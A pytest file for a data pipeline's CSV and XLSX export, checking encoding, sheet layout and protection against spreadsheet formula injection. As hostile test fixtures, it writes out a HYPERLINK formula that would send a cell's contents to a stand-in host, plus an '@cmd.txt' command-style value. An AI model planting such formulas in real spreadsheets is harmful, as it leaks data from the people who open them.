"""make export: CSV files and one XLSX workbook a spreadsheet opens as they are."""

from __future__ import annotations

import csv
import re
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
from conftest import folders, run_cli

from pipeline.export import csv_cell, export
from pipeline.schemas import PROCESSED_TABLES


def _sheets(xlsx) -> dict[str, str]:
    """Sheet name -> its XML, read straight from the workbook's zip."""
    with zipfile.ZipFile(xlsx) as z:
        names = re.findall(r'<sheet name="([^"]+)"', z.read("xl/workbook.xml").decode())
        strings = (
            z.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in z.namelist()
            else ""
        )
        return {
            name: z.read(f"xl/worksheets/sheet{i}.xml").decode() + strings
            for i, name in enumerate(names, 1)
        }


def test_export_writes_every_table_as_csv_and_a_sheet(sample_run, tmp_path):
    out = tmp_path / "exports"
    result = run_cli("export", *folders(sample_run), "--out", str(out))
    assert result.returncode == 0, result.stderr
    for name in PROCESSED_TABLES:
        path = out / f"{name}.csv"
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), name  # BOM: Excel reads UTF-8
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        table = pq.read_table(sample_run / "processed" / f"{name}.parquet")
        assert rows[0] == table.column_names
        assert len(rows) - 1 == table.num_rows
    sheets = _sheets(out / "tables.xlsx")
    assert list(sheets) == list(PROCESSED_TABLES)
    for xml in sheets.values():
        assert 'state="frozen"' in xml  # header row frozen
        assert "<col " in xml  # column widths set
    # accents survive in the organisations sheet and CSV
    names = pq.read_table(sample_run / "processed" / "organisations.parquet").column("name")
    accented = next(n for n in names.to_pylist() if re.search("[éèàç]", n))
    assert accented in (out / "organisations.csv").read_text(encoding="utf-8-sig")


def test_page_text_that_looks_like_a_formula_cannot_run(tmp_path):
    processed = tmp_path / "processed"
    processed.mkdir()
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    for name, schema in PROCESSED_TABLES.items():
        rows = []
        if name == "figures":
            rows = [
                {
                    "doc_id": "d",
                    "text": hostile,
                    "value": 1.0,
                    "approximate": False,
                    "start_offset": 0,
                    "end_offset": 1,
                    "extractor": "rule:x",
                },
                {
                    "doc_id": "d",
                    "text": "-5 %",
                    "value": -5.0,
                    "approximate": False,
                    "start_offset": 0,
                    "end_offset": 1,
                    "extractor": "rule:x",
                },
            ]
        if name == "documents":
            rows = [{"doc_id": "d", "source": "@cmd.txt", "status": "ok"}]
        pq.write_table(pa.Table.from_pylist(rows, schema=schema), processed / f"{name}.parquet")
    counts = export(processed, tmp_path / "out")
    assert counts["figures"] == 2 and counts["places"] == 0
    text = (tmp_path / "out" / "figures.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
    assert "'-5 %" in text and ",-5.0," in text  # text is guarded, the number stays a number
    assert "'@cmd.txt" in (tmp_path / "out" / "documents.csv").read_text(encoding="utf-8-sig")
    sheets = _sheets(tmp_path / "out" / "tables.xlsx")
    assert "<f>" not in sheets["figures"] and "HYPERLINK" in sheets["figures"]
    assert 'state="frozen"' in sheets["places"]  # an empty table still has its header


def test_csv_cell_guards_every_formula_start_and_leaves_data_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell("Kinshasa") == "Kinshasa" and csv_cell(-3.5) == -3.5
    assert csv_cell(["a", "b"]) == "a; b" and csv_cell(None) == ""
